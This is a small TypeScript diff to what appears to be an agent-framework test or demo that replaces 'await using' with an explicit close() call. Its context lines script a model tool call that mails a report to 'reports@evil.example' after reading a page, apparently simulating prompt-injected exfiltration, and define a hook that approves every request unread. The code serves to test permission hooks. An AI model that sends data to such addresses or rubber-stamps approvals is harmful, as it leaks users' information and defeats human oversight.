@@ -25,9 +25,10 @@ const attempt = async (hooks: ReadonlyArray<AgentHook>) => {
     Scripted.toolCalls({ name: "send_mail", args: { to: "reports@evil.example", body: "The report" } }),
     "Done."
   ])
-  await using agent = createAgent({ provider, tools: [read, send], hooks })
+  const agent = createAgent({ provider, tools: [read, send], hooks })
   agent.on((event) => void (event.type === "tool-denied" && console.log(`refused by ${event.by}`)))
   await agent.run("Read the page and send the report")
+  await agent.close()
 }
 
 const approvesAll = () => (console.log("asked, and approved without reading"), { type: "approve" as const })
